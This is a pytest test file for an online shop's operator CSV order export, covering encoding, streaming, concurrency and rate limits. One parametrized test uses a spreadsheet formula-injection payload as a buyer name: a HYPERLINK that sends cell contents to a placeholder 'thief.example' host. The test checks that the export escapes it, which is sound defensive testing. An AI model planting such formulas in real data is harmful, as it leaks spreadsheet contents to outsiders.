"""Operators export orders as CSV: what the list shows, safely, in bounded memory."""

import itertools
from datetime import datetime

import pytest
from flask import Flask
from sqlalchemy import event, text

from pitturu.api.admin.order_listing import LINES_AT_ONCE
from pitturu.api.order_csv import FIELDS
from pitturu.extensions import db
from pitturu.services import services_of
from tests.order_lists import COPIES, FILE, VIEWER, exported, found, table
from tests.shop import Shop


@pytest.fixture(autouse=True)
def viewer(shop: Shop) -> None:
    """An operator who may only look."""
    shop.login(VIEWER, "viewer")


def test_the_file_has_what_the_list_shows(shop: Shop) -> None:
    shop.paid(buyer_name='쉼표, "따옴표"', buyer_tel="+82 10-1234-5678")
    shop.open(user="minji", prepared=False, buyer_name="-", buyer_email="a@example.org")
    answer = exported(shop, language="en")
    header, *lines = table(answer)

    assert answer.content_type == "text/csv; charset=utf-8"
    assert answer.data.startswith(b"\xef\xbb\xbf")
    assert answer.data.count(b"\r\n") == answer.data.count(b"\n") == 3
    assert header == [name if not name.endswith("_at") else f"{name} (Asia/Seoul)" for name in FIELDS]
    for line, order in zip(lines, found(shop), strict=True):
        for cell, (name, value) in zip(line, order.items(), strict=True):
            if name.endswith("_at") and value is not None:
                written = datetime.fromisoformat(f"{cell}+09:00")
                assert written == datetime.fromisoformat(value).replace(microsecond=0), name
            else:
                shown = "" if value is None else str(value)
                assert cell == (f"'{shown}" if shown[:1] in ("-", "+") else shown), name
    assert table(exported(shop, status="paid")) == [table(exported(shop))[0], lines[1]]
    assert table(exported(shop))[0][0] == "세션 ID"


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(shop: Shop, beginning: str) -> None:
    """A buyer names themselves so that an operator's spreadsheet runs it. Numbers stay numbers."""
    shop.open(prepared=False, buyer_name=f'{beginning}HYPERLINK("https://thief.example/?"&A1,"김")')
    row = table(exported(shop))[1]
    assert row[FIELDS.index("buyer_name")].startswith(f"'{beginning}HYPERLINK(")
    assert row[FIELDS.index("amount")] == "10000"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def copies(shop: Shop, count: int) -> None:
    """Other orders like the first, each a second older."""
    with shop.app.app_context():
        db.session.execute(text(COPIES.replace("WHERE id = :id", "LIMIT :count")), {"count": count})
        db.session.commit()


class Statements:
    """Counts the statements that an app sends for its exports, and the connections that these hold."""

    def __init__(self, app: Flask) -> None:
        self.engine, self.count = services_of(app).autocommit, 0

    def __enter__(self) -> "Statements":
        event.listen(self.engine, "after_cursor_execute", self._note)
        return self

    def __exit__(self, *_: object) -> None:
        event.remove(self.engine, "after_cursor_execute", self._note)

    def _note(self, *_: object) -> None:
        self.count += 1

    @property
    def held(self) -> int:
        """Connections in use."""
        return int(self.engine.pool.checkedout())  # type: ignore[attr-defined]


def test_a_long_file_is_read_while_it_is_sent(shop: Shop) -> None:
    """Never more than a page ahead of the client, which holds no connection while it does not read."""
    shop.open()
    copies(shop, 3 * LINES_AT_ONCE)
    with Statements(shop.app) as sent:
        answer = shop.client.get(f"/api/v1{FILE}", headers=shop.login(VIEWER))
        chunks, seen = answer.iter_encoded(), []
        assert sent.held == 0
        for chunk in chunks:
            seen.append((sent.count, chunk.count(b"\r\n")))
            assert sent.held == 0
        answer.close()
    counts = [count for count, _ in seen]
    assert [lines for _, lines in seen] == [1, *([LINES_AT_ONCE] * 3), 1]
    assert [after - before for before, after in itertools.pairwise(counts)] == [0, 1, 1, 2]


def test_few_exports_run_at_once_and_one_that_is_left_ends(shop: Shop) -> None:
    """Whether its client has read nothing, or a part."""
    shop.open()
    copies(shop, 2 * LINES_AT_ONCE)
    headers = shop.login(VIEWER)
    first, second = (shop.client.get(f"/api/v1{FILE}", headers=headers) for _ in range(2))
    assert next(iter(first.iter_encoded()))
    busy = exported(shop, 503)
    assert (busy.json["code"], busy.headers["Retry-After"]) == ("exports_busy", "5")
    assert found(shop)
    first.close()
    second.close()
    for _ in range(3):
        assert len(table(exported(shop))) == 2 * LINES_AT_ONCE + 2


def test_exports_are_limited_by_operator(shop: Shop) -> None:
    for _ in range(10):
        exported(shop)
    limited = exported(shop, 429)
    assert limited.json["code"] == "too_many_requests"
    assert int(limited.headers["Retry-After"]) <= 60
    assert found(shop) == []
